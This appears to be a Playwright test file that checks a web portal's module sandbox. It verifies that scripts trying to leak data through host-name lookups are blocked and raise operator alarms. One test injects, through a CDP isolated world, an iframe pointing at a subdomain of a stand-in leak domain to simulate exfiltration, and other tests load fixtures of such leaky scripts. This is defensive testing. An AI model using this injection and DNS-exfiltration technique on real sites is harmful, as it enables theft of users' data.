// A script tries to send data in host names. No name is looked up, the module ends, and the operator is warned.
import { expect, type Frame, type Page } from '@playwright/test';
import { hostileTest as test } from '#tests/web/support/modules/hostile-test.ts';
import { type HostilePortal, leakDomain, victim } from '#tests/web/support/portals/hostile-portal.ts';
import { closedApis, leakyScripts } from '#tests/web/support/portals/leaky-scripts.ts';
import { signIn } from '#tests/web/support/signed-in.ts';
import { watchBrowser } from '#tests/web/support/network/watched-browser.ts';

const itemUrl = (hostile: HostilePortal, item: string) => `${hostile.url}/dashboard/ataques/${item}`;
const endedMessage = (page: Page) => page.getByRole('alert').getByRole('heading', { name: 'O módulo saiu do ar' });
async function contentFrameOf(page: Page): Promise<Frame> {
  const frame = await (await page.locator('iframe').elementHandle())?.contentFrame();
  if (!frame) throw new Error('There is no module frame.');
  return frame;
}
const moduleTitle = (page: Page, name: string) => page.frameLocator('iframe').getByRole('heading', { level: 1, name });

const alarmsFor = async (hostile: HostilePortal, item: string) =>
  (await hostile.activities()).filter(
    ({ pointer, detail }) => pointer === 'seguranca.alarme.disparar' && detail['itemId'] === item,
  );

/** Alarms that the page of the person raised. The browser raises further ones. */
const pageAlarmsFor = async (hostile: HostilePortal, item: string) =>
  (await alarmsFor(hostile, item)).filter(({ detail }) => detail['reportedBy'] === 'portal');

test('looks up no name and warns the operator, whichever API a script uses', async ({ hostile }) => {
  test.slow();
  const browser = await watchBrowser();
  await signIn(browser.context, hostile.url, victim);
  const page = await browser.context.newPage();
  for (const item of Object.keys(leakyScripts)) {
    await page.goto(itemUrl(hostile, item));
    await expect(endedMessage(page), item).toBeVisible();
    await expect.poll(() => pageAlarmsFor(hostile, item), item).toHaveLength(1);
  }
  for (const item of Object.keys(closedApis)) {
    await page.goto(itemUrl(hostile, item));
    await expect(moduleTitle(page, 'Nada'), item).toBeVisible();
  }
  expect(await browser.lookups(leakDomain)).toEqual([]);
});

test('stops the navigation of the frame by the list of connections of the browser', async ({ hostile }) => {
  const browser = await watchBrowser(['--enable-features=ConnectionAllowlists,OverrideConnectionAllowlistOriginTrial']);
  const major = Number(browser.context.browser()?.version().split('.')[0]);
  await signIn(browser.context, hostile.url, victim);
  const page = await browser.context.newPage();
  await page.goto(itemUrl(hostile, 'vaza-ao-sair'));
  await expect(endedMessage(page)).toBeVisible();
  await expect.poll(() => pageAlarmsFor(hostile, 'vaza-ao-sair')).toHaveLength(1);
  await page.goto(itemUrl(hostile, 'honesto'));
  await expect(moduleTitle(page, 'Tudo certo')).toBeVisible();
  // Chromium has the list since version 148.
  expect(await browser.lookups(leakDomain)).toHaveLength(major >= 148 ? 0 : 1);
});

test('ends a module with an unexpected frame, on the report of the page and of the browser', async ({
  page,
  context,
  hostile,
}) => {
  await signIn(context, hostile.url, victim);
  const reports: unknown[] = [];
  page.on('request', (request) => {
    if (new URL(request.url()).pathname === '/module-frame/report') reports.push(request.postDataJSON());
  });
  await page.goto(itemUrl(hostile, 'honesto'));
  await expect(moduleTitle(page, 'Tudo certo')).toBeVisible();
  const module = await contentFrameOf(page);
  // An isolated world has the built-ins of the browser, as a script would have through a hole in the runtime.
  const cdp = await context.newCDPSession(module);
  const { frameTree } = await cdp.send('Page.getFrameTree');
  const { executionContextId } = await cdp.send('Page.createIsolatedWorld', { frameId: frameTree.frame.id });
  const expression = `document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://ana.furo.${leakDomain}/' }))`;
  await cdp.send('Runtime.evaluate', { expression, contextId: executionContextId });
  await expect(endedMessage(page)).toBeVisible();
  await expect
    .poll(async () => (await pageAlarmsFor(hostile, 'honesto')).map(({ detail }) => detail))
    .toMatchObject([{ name: 'module-violation', directive: 'frame-src', target: `http://….${leakDomain}` }]);
  await expect.poll(() => reports).toMatchObject([{ 'csp-report': { 'effective-directive': 'frame-src' } }]);
});

test('stops a mistake of an author without an alarm, and keeps the module running', async ({ page, context, hostile }) => {
  await signIn(context, hostile.url, victim);
  await page.goto(itemUrl(hostile, 'imagem-de-fora'));
  await expect(moduleTitle(page, 'Segue em frente')).toBeVisible();
  await expect(page.locator('[data-module-state="running"]')).toBeVisible();
  expect(await alarmsFor(hostile, 'imagem-de-fora')).toEqual([]);
});
